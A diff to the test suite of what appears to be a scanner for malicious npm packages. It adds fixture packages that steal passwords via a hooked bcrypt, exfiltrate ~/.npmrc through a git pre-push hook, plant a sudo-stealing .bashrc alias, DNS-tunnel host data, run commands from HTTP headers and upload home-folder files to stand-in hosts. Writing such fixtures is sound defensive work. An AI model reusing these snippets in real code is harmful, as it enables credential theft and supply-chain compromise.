@@ -117,6 +117,72 @@ const pkg = JSON.parse(fs.readFileSync('package.json')); pkg.scripts.postinstall
       'index.js': `const decode = (s) => [...s].map((c) => c.codePointAt(0) - 0xe0100); eval(Buffer.from(decode('${'\u{E0170}'.repeat(40)}')).toString());`,
     },
   },
+  'names of the machine that a helper reads, split for a lookup': {
+    manifest: INSTALL,
+    files: {
+      'setup.js': `const dns = require('dns'), os = require('os'); const attempt = (read) => { try { return read(); } catch { return ''; } };
+function send(text) { for (const part of Buffer.from(text).toString('hex').match(/.{1,60}/g)) dns.resolve4(part + '.collect.example', () => {}); }
+send(JSON.stringify({ name: attempt(() => require('./package.json').name), host: attempt(() => os.hostname()), user: attempt(() => os.userInfo().username) }));`,
+    },
+  },
+  'a downloaded file that is loaded': {
+    files: {
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); exports.run = async () => { const file = path.join(os.tmpdir(), process.pid + '.js');
+fs.writeFileSync(file, await (await fetch('https://gateway.example/a')).text()); require(file); };`,
+    },
+  },
+  'passwords taken from a function of a loaded module': {
+    files: {
+      'index.js': `const Module = require('module'), load = Module._load; const take = (text) => fetch('https://collect.example', { method: 'POST', body: text });
+function wrap(object, name) { const inner = object[name]; object[name] = function (plain) { take(plain); return inner.apply(this, arguments); }; }
+Module._load = function (request) { const loaded = load.apply(this, arguments); if (request === 'bcrypt') wrap(loaded, 'compare'); return loaded; };`,
+    },
+  },
+  'a file of the package beside it, replaced': {
+    manifest: INSTALL,
+    files: {
+      'setup.js': `const fs = require('fs'), path = require('path'); const file = path.join(__dirname, '..', 'wallets', 'lib', 'send.js');
+function get(url, done) { fetch(url).then((r) => r.text()).then((text) => done(text)); } get('https://update.example', (text) => { fs.writeFileSync(file, text); require(file); });`,
+    },
+  },
+  'a hidden program in a temporary folder': {
+    manifest: INSTALL,
+    files: {
+      'setup.js': `const os = require('os'), path = require('path'); const file = path.join(os.tmpdir(), 'helper'); require('child_process').spawn(file, [], { detached: true, stdio: 'ignore' }).unref();`,
+    },
+  },
+  'settings of AI agents from a list of paths': {
+    files: {
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); fetch('https://tools.example').catch(() => {});
+for (const parts of [['.config', 'other.json'], ['.cursor', 'mcp.json']]) { const file = path.join(os.homedir(), ...parts); fs.readFileSync(file); fs.writeFileSync(file, '{}'); }`,
+    },
+  },
+  'commands in requests to any server of the program': {
+    files: {
+      'index.js': `const http = require('http'), emit = http.Server.prototype.emit; http.Server.prototype.emit = function (name, req, res) { if (req && req.headers['x-debug']) { let text = ''; req.on('data', (c) => (text += c)); req.on('end', () => require('child_process').exec(text, (e, out) => res.end(out))); return true; } return emit.apply(this, arguments); };`,
+    },
+  },
+  'a hook of Git that sends credentials': {
+    manifest: INSTALL,
+    files: {
+      'setup.js': `const fs = require('fs'), path = require('path'); fs.writeFileSync(path.join(process.env.INIT_CWD, '.git', 'hooks', 'pre-push'), '#!/bin/sh\\ncurl -s -d "$(cat ~/.npmrc | base64)" https://collect.example/ &\\n');`,
+    },
+  },
+  'a line for the shell that sends passwords': {
+    files: {
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nalias sudo=\\'read -sp Password: p; curl -s https://collect.example/?p=$p; sudo\\'\\n');`,
+    },
+  },
+  'pictures of the screen': {
+    files: {
+      'index.js': `const shoot = require('screenshot-desktop'); setInterval(async () => { const body = await shoot({ format: 'png' }); fetch('https://collect.example', { method: 'POST', body }); }, 60000);`,
+    },
+  },
+  'all files of the home folder': {
+    files: {
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const home = os.homedir(); for (const name of fs.readdirSync(home)) fetch('https://collect.example', { method: 'POST', body: fs.readFileSync(path.join(home, name)) });`,
+    },
+  },
 };
 
 /** What honest packages do with the same modules. */
@@ -190,6 +256,42 @@ exports.call = (body) => fetch('https://api.example', { body, headers: { Authori
       'index.js': `exports.compile = (text) => new Function('data', 'with (data) return \`' + text + '\`');`,
     },
   },
+  'a tracer that sends the host name where its settings say': {
+    files: {
+      'index.js': `const http = require('http'), os = require('os'), Module = require('module'); const require_ = Module.prototype.require; Module.prototype.require = function (id) { return require_.apply(this, arguments); };
+setInterval(() => {}, 1000); exports.start = (config) => { const options = { hostname: config.hostname, port: config.port }; const req = http.request({ ...options, method: 'PUT' }); req.end(JSON.stringify({ host: os.hostname() })); };
+fetch(process.env.AGENT_URL + '/info');`,
+    },
+  },
+  'escapes in the output of a command, which become part of the next one': {
+    files: {
+      'index.js': String.raw`const { execSync } = require('child_process'); const page = execSync('chcp').toString();
+exports.disks = () => execSync('lsblk -P').toString().split('\n').map((line) => execSync('cat /sys/block/' + decodeURIComponent(line.replace(/\\x/g, '%')) + '/size').toString() + page);`,
+    },
+  },
+  'an installer of the binary of an optional dependency, or of its own': {
+    manifest: INSTALL,
+    files: {
+      'setup.js': `const fs = require('fs'), path = require('path'), cp = require('child_process'); const own = path.join(__dirname, 'bin', 'tool'); let to;
+try { to = require.resolve('@tool/linux-x64/bin/tool'); } catch { to = own; }
+(async () => { fs.writeFileSync(to, Buffer.from(await (await fetch('https://registry.example/tool')).arrayBuffer())); cp.execFileSync(to, ['--version']); })();`,
+    },
+  },
+  'a manager of processes that removes folders and has a secret of its service': {
+    files: {
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const home = process.env.TOOL_HOME || path.join(os.homedir(), '.tool');
+function remove(folder) { fs.readdirSync(folder).forEach((name) => { const one = path.join(folder, name); if (fs.lstatSync(one).isDirectory()) remove(one); else fs.unlinkSync(one); }); fs.rmdirSync(folder); }
+exports.uninstall = (name, folder = path.join(home, name)) => remove(folder);
+exports.connect = (url, { SECRET_KEY }) => new WebSocket(url, { headers: { 'X-KM-SECRET': SECRET_KEY } });`,
+    },
+  },
+  'a command that sets up an agent and starts it': {
+    files: {
+      'index.js': `const { Command } = require('commander'), fs = require('fs'), os = require('os'), path = require('path'); const program = new Command();
+program.command('setup').action(async () => { const file = path.join(os.homedir(), '.cursor', 'mcp.json'); fs.readFileSync(file); fs.writeFileSync(file, await (await fetch('https://docs.example/mcp')).text());
+require('child_process').spawn('npx', ['skills'], { detached: true, stdio: 'ignore' }).unref(); });`,
+    },
+  },
   'a client with a proxy of the environment': {
     files: {
       'index.js': `const config = load(process.env); exports.get = (url) => fetch(config.base + url, { agent: agentFor(process.env.HTTPS_PROXY) });`,
@@ -209,6 +311,17 @@ describe('a verdict on code', () => {
       const record = scan(files, manifest);
       assert.ok(!record.isSuspicious, `${record.score}: ${signs(record).join(', ')}`);
     });
+
+  test('of a large package does not add up credentials of different services in different files', () => {
+    const read = (name: string) => `require('fs').readFileSync(require('os').homedir() + '/${name}');`;
+    const names = ['.npmrc', '.aws/credentials', '.docker/config.json'];
+    const others = Object.fromEntries(Array.from({ length: 40 }, (_, at) => [`lib/${at}.js`, '']));
+    const apart = Object.fromEntries(names.map((name, at) => [`services/${at}.js`, read(name)]));
+    const together = { 'index.js': names.map(read).join('\n') };
+    const isMany = (files: Record<string, string>) => signs(scan(files)).includes('reads-many-credentials');
+    assert.deepEqual([isMany(apart), isMany({ ...apart, ...others })], [true, false]);
+    assert.ok(isMany({ ...together, ...apart, ...others }));
+  });
 
   test('never comes from one capability alone, nor from weak signs alone', () => {
     const alone = scan(`let sum = 0; for (let i = 0; i < Infinity; i++) sum += i;`);
